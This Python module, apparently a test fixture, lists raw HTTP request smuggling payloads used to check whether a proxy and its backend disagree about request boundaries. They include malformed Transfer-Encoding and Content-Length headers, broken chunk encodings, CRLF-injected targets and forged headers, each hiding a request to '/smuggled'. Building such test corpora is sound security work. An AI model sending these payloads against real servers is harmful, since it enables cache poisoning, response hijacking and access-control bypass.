"""What attackers send so that a proxy and the server behind it disagree about where a request ends.

Each payload is what one client sends on one connection. A disagreement would show as a request to ``/smuggled`` that no
proxy knows of, or as the reply to somebody else's request.
"""

from __future__ import annotations

HIDDEN = b"GET /smuggled HTTP/1.1\r\nHost: evil.example\r\n\r\n"
CHUNKED = b"0\r\n\r\n" + HIDDEN


def post(fields: bytes, body: bytes, *, path: bytes = b"/a", version: bytes = b"1.1") -> bytes:
    return b"POST %b HTTP/%b\r\nHost: a.example\r\n%b\r\n%b" % (path, version, fields, body)


def get(fields: bytes = b"", body: bytes = b"", *, method: bytes = b"GET", path: bytes = b"/a") -> bytes:
    return b"%b %b HTTP/1.1\r\nHost: a.example\r\n%b\r\n%b" % (method, path, fields, body)


def with_length(fields: bytes, body: bytes) -> bytes:
    """A length of the whole body, for who does not see the coding."""
    return post(b"Content-Length: %d\r\n%b" % (len(body), fields), body)


_CODINGS = {
    "in order": b"Transfer-Encoding: chunked\r\n",
    "in capitals": b"TRANSFER-ENCODING: CHUNKED\r\n",
    "with a letter before": b"Transfer-Encoding: xchunked\r\n",
    "with a letter behind": b"Transfer-Encoding: chunkedx\r\n",
    "with a blank before the colon": b"Transfer-Encoding : chunked\r\n",
    "without a blank": b"Transfer-Encoding:chunked\r\n",
    "with a tab": b"Transfer-Encoding:\tchunked\r\n",
    "with a vertical tab": b"Transfer-Encoding:\x0bchunked\r\n",
    "with a form feed behind": b"Transfer-Encoding: chunked\x0c\r\n",
    "with a carriage return behind": b"Transfer-Encoding: chunked\r\r\n",
    "with a zero byte": b"Transfer-Encoding: chunked\x00\r\n",
    "with a high byte": b"Transfer-Encoding: chunked\xa0\r\n",
    "in quotes": b'Transfer-Encoding: "chunked"\r\n',
    "with a parameter": b"Transfer-Encoding: chunked;q=1\r\n",
    "before identity": b"Transfer-Encoding: chunked, identity\r\n",
    "behind identity": b"Transfer-Encoding: identity, chunked\r\n",
    "twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
    "beside another": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n",
    "behind an empty one": b"Transfer-Encoding:\r\nTransfer-Encoding: chunked\r\n",
    "with a comma before": b"Transfer-Encoding: ,chunked\r\n",
    "on the next line": b"Transfer-Encoding:\r\n chunked\r\n",
    "as the next line of another": b"X-A: b\r\n Transfer-Encoding: chunked\r\n",
    "behind a line feed": b"X-A: b\nTransfer-Encoding: chunked\r\n",
    "behind a carriage return": b"X-A: b\rTransfer-Encoding: chunked\r\n",
    "with an underscore": b"Transfer_Encoding: chunked\r\n",
    "named as hop by hop": b"Connection: Transfer-Encoding, keep-alive\r\nTransfer-Encoding: chunked\r\n",
}
_LENGTHS = {
    "with a plus": b"Content-Length: +%d\r\n",
    "with a minus": b"Content-Length: -%d\r\n",
    "with zeros before": b"Content-Length: 000%d\r\n",
    "twice, once in a list": b"Content-Length: %d, 0\r\n",
    "with a comma": b"Content-Length: %d,\r\n",
    "with a blank inside": b"Content-Length: %d 0\r\n",
    "with a blank before the colon": b"Content-Length : %d\r\n",
    "with a point": b"Content-Length: %d.0\r\n",
    "too large for 64 bits": b"Content-Length: 1844674407370955161%d\r\n",
    "twice the same": b"Content-Length: %d\r\nContent-Length: 46\r\n",
    "zero before": b"Content-Length: 0\r\nContent-Length: %d\r\n",
    "zero behind": b"Content-Length: %d\r\nContent-Length: 0\r\n",
    "with an underscore": b"Content_Length: %d\r\n",
    "with a tab": b"Content-Length:\t%d\t\r\n",
    "on the next line": b"Content-Length:\r\n %d\r\n",
    "behind a line feed": b"X-A: b\nContent-Length: %d\r\n",
    "named as hop by hop": b"Connection: Content-Length, keep-alive\r\nContent-Length: %d\r\n",
}
_CHUNKS = {
    "in order": b"5\r\nhello\r\n" + CHUNKED,
    "with an extension": b"5;a=b\r\nhello\r\n" + CHUNKED,
    "with an extension in quotes": b'5;a="\r\n"\r\nhello\r\n' + CHUNKED,
    "with a line feed in an extension": b"5;\nhello\r\n" + CHUNKED,
    "with a line feed behind the size": b"5\nhello\r\n" + CHUNKED,
    "with a carriage return behind the size": b"5\rhello\r\n" + CHUNKED,
    "with line feeds alone": b"5\nhello\n0\n\n" + HIDDEN,
    "with a blank behind the size": b"5 \r\nhello\r\n" + CHUNKED,
    "with a blank before the size": b" 5\r\nhello\r\n" + CHUNKED,
    "with a size of C": b"0x5\r\nhello\r\n" + CHUNKED,
    "with a plus": b"+5\r\nhello\r\n" + CHUNKED,
    "with a minus": b"-5\r\nhello\r\n" + CHUNKED,
    "with zeros before": b"0000000000000000000005\r\nhello\r\n" + CHUNKED,
    "too large for 64 bits": b"10000000000000005\r\nhello\r\n" + CHUNKED,
    "with an underscore": b"0_5\r\nhello\r\n" + CHUNKED,
    "without a size": b"\r\nhello\r\n" + CHUNKED,
    "longer than they say": b"5\r\nhelloX\r\n" + CHUNKED,
    "without an end": b"5\r\nhello" + CHUNKED,
    "with another end": b"5\r\nhelloXX" + CHUNKED,
    "with a length behind them": b"5\r\nhello\r\n0\r\nContent-Length: 46\r\n\r\n" + HIDDEN,
    "with a coding behind them": b"5\r\nhello\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n" + CHUNKED,
    "with no end behind them": b"5\r\nhello\r\n0\r\n" + HIDDEN,
    "with a line feed at the end": b"5\r\nhello\r\n0\r\n\n" + HIDDEN,
    "with many zeros at the end": b"5\r\nhello\r\n000\r\n\r\n" + HIDDEN,
    "cut off": b"5\r\nhel",
}
_OTHERS = {
    "a length that is too short": post(b"Content-Length: 5\r\n", b"hello" + HIDDEN),
    "a length that is too long": post(b"Content-Length: 500\r\n", HIDDEN),
    "a length of none": post(b"", HIDDEN),
    "a body of GET": get(b"Content-Length: %d\r\n" % len(HIDDEN), HIDDEN),
    "a body of HEAD": get(b"Content-Length: %d\r\n" % len(HIDDEN), HIDDEN, method=b"HEAD"),
    "a body of DELETE": get(b"Content-Length: %d\r\n" % len(HIDDEN), HIDDEN, method=b"DELETE"),
    "a body of OPTIONS": get(b"Content-Length: %d\r\n" % len(HIDDEN), HIDDEN, method=b"OPTIONS"),
    "a body that nobody reads": post(b"Content-Length: %d\r\n" % len(HIDDEN), HIDDEN, path=b"/noread"),
    "chunks that nobody reads": post(
        b"Transfer-Encoding: chunked\r\n", b"%x\r\n%b\r\n0\r\n\r\n" % (len(HIDDEN), HIDDEN), path=b"/noread"
    ),
    "a wish for 100": post(b"Expect: 100-continue\r\nContent-Length: %d\r\n" % len(HIDDEN), HIDDEN),
    "a wish for 100 that nobody reads": post(
        b"Expect: 100-continue\r\nContent-Length: %d\r\n" % len(HIDDEN), HIDDEN, path=b"/noread"
    ),
    "a wish for something else": post(b"Expect: 200-ok\r\nContent-Length: %d\r\n" % len(HIDDEN), HIDDEN),
    "an upgrade to WebSocket": get(b"Connection: Upgrade\r\nUpgrade: websocket\r\n", HIDDEN),
    "an upgrade to HTTP/2": get(
        b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n", HIDDEN
    ),
    "an upgrade with a body": post(
        b"Connection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: %d\r\n" % len(HIDDEN), HIDDEN
    ),
    "HTTP/2 without asking": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + HIDDEN,
    "a tunnel": b"CONNECT a.example:443 HTTP/1.1\r\nHost: a.example:443\r\n\r\n" + HIDDEN,
    "an absolute target": b"GET http://b.example/a HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "a target with a blank": b"GET /a /smuggled HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "a target with a line in it": b"GET /a%0d%0aX-Serial-4d1c:%20x HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "a target with dots": b"GET /a/../../smuggled HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "a fragment": b"GET /a#/smuggled HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "line feeds alone": b"POST /a HTTP/1.1\nHost: a.example\nContent-Length: 5\n\nhello" + HIDDEN,
    "two hosts": b"GET /a HTTP/1.1\r\nHost: a.example\r\nHost: b.example\r\n\r\n",
    "no host": b"GET /a HTTP/1.1\r\n\r\n" + HIDDEN,
    "a host that is none": b"GET /a HTTP/1.1\r\nHost: a b/c\r\n\r\n",
    "a field without a colon": get(b"X-A\r\n"),
    "a field without a name": get(b": a\r\n"),
    "a name with a blank": get(b"X A: b\r\n"),
    "a zero byte in a field": get(b"X-A: b\x00c\r\n"),
    "an old version that stays": post(
        b"Connection: keep-alive\r\nTransfer-Encoding: chunked\r\n", CHUNKED, version=b"1.0"
    ),
    "an old version with a length": post(
        b"Connection: keep-alive\r\nContent-Length: 5\r\n", b"hello" + HIDDEN, version=b"1.0"
    ),
    "a version of the future": post(b"Content-Length: 5\r\n", b"hello" + HIDDEN, version=b"1.9"),
    "no version": b"GET /a\r\n\r\n" + HIDDEN,
    "empty lines before": b"\r\n\r\n" + get(),
    "five at once": get()
    + post(b"Content-Length: 5\r\n", b"hello")
    + get(method=b"HEAD")
    + get(path=b"/204")
    + get(path=b"/b"),
    "a long line": get(path=b"/" + b"a" * 7000),
    "a very long line": get(path=b"/" + b"a" * 20_000),
    "long fields": get(b"".join(b"X-%d: %b\r\n" % (number, b"a" * 3000) for number in range(4))),
    "many fields": get(b"".join(b"X-%d: a\r\n" % number for number in range(95))),
    "more fields than are allowed": get(b"".join(b"X-%d: a\r\n" % number for number in range(300))),
    "the number of the proxy": get(b"X-Serial-4d1c: forged\r\nX_Serial_4d1c: forged\r\n"),
}
_ANSWERS = ("204body", "304body", "205body", "100", "clshort", "cllong", "cl0", "gen", "errfirst", "errmid", "errmidcl")
_INJECTIONS = ("crlfval", "lfval", "crlfname", "crlfstatus", "hopte", "hopupgrade", "hopconn", "sysexit")

PAYLOADS: dict[str, bytes] = {
    **{f"a coding {what}, and a length": with_length(coding, CHUNKED) for what, coding in _CODINGS.items()},
    **{
        f"a coding {what}, and a short length": post(
            b"Content-Length: 4\r\n" + coding, b"2e\r\n" + HIDDEN + b"\r\n0\r\n\r\n"
        )
        for what, coding in _CODINGS.items()
    },
    **{f"a coding {what}": post(coding, CHUNKED) for what, coding in _CODINGS.items()},
    **{f"a length {what}": post(length % len(HIDDEN), HIDDEN) for what, length in _LENGTHS.items()},
    **{f"chunks {what}": post(b"Transfer-Encoding: chunked\r\n", chunks) for what, chunks in _CHUNKS.items()},
    **{
        f"chunks {what}, of which nobody reads": post(b"Transfer-Encoding: chunked\r\n", chunks, path=b"/noread")
        for what, chunks in _CHUNKS.items()
    },
    **_OTHERS,
    **{f"the answer {name}": get(path=b"/g/" + name.encode()) for name in (*_ANSWERS, *_INJECTIONS)},
    **{f"the answer {name} to HEAD": get(path=b"/g/" + name.encode(), method=b"HEAD") for name in _ANSWERS},
}
"""What is sent, by what it is."""
